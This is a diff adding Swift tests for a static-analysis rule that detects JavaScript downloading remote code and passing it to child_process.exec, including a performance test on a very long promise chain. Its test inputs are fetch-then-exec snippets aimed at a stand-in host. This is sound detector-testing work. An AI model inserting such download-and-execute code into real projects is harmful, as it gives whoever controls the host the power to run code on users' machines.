@@ -143,3 +143,41 @@ extension RuleBehaviourTests {
     #expect(try findings("code-download-execute", Example(fed, language: .javascript)).map(\.line) == [3], "a download fed to the command still is")
   }
 }
+
+extension RuleBehaviourTests {
+  @Test("A download passed down a promise chain to a command is download-execute", arguments: [
+    "const { exec } = require('child_process');\nfetch('https://x.example-bin.io/p.sh').then(r => r.text()).then(body => {\n  exec(body);\n});\n",
+    "const { exec } = require('child_process');\nfetch('https://x.example-bin.io/p.sh')\n  .then((res) => res.text())\n  .then(function (script) {\n    const cmd = script.trim();\n    exec(cmd);\n  });\n",
+  ])
+  func promiseChainDownloadExecute(_ code: String) throws {
+    let found = try findings("code-download-execute", Example(code, language: .javascript))
+    #expect(found.count == 1)
+    #expect(found.first?.message.contains("child_process.exec") == true)
+  }
+
+  @Test("A promise chain that only reads a download, or a chain off something else, is not")
+  func promiseChainNonExecution() throws {
+    let parsed = "const { exec } = require('child_process');\nfetch('https://api.example.com/v').then(r => r.json()).then(v => console.log(v.version));\nexec('git pull');\n"
+    #expect(try findings("code-download-execute", Example(parsed, language: .javascript)).isEmpty)
+    let other = "const { exec } = require('child_process');\nconst data = await fetch('https://api.example.com/v');\nreadConfig().then(cfg => {\n  exec(cfg.command);\n});\n"
+    #expect(try findings("code-download-execute", Example(other, language: .javascript)).isEmpty)
+  }
+}
+
+extension RuleBehaviourTests {
+  /// Each `.then` reads its receiver back only to the previous link: reading every chain to
+  /// its start would be quadratic in the chain's length.
+  @Test("A promise chain of 100,000 links is read in linear time")
+  func longPromiseChain() throws {
+    let rule = try #require(BuiltInRules.description(of: "code-download-execute"))
+    // A chain off something else is read to its start by every link unless links stop at
+    // the previous one; the download's chain after it still reaches `exec`.
+    let code = "const { exec } = require('child_process');\nload()" + String(repeating: ".then(r => r.x())", count: 100_000)
+      + ";\nfetch('https://x.example-bin.io/p').then(r => r.text()).then(b => exec(b));\n"
+    let start = ContinuousClock.now
+    let outcome = ExampleRunner.run(Example(code, language: .javascript), rule: rule)
+    let elapsed = ContinuousClock.now - start
+    #expect(outcome.findings.map(\.line) == [3], "the download's chain still runs it")
+    #expect(elapsed < .seconds(20), "2 MB of chain took \(elapsed)")
+  }
+}
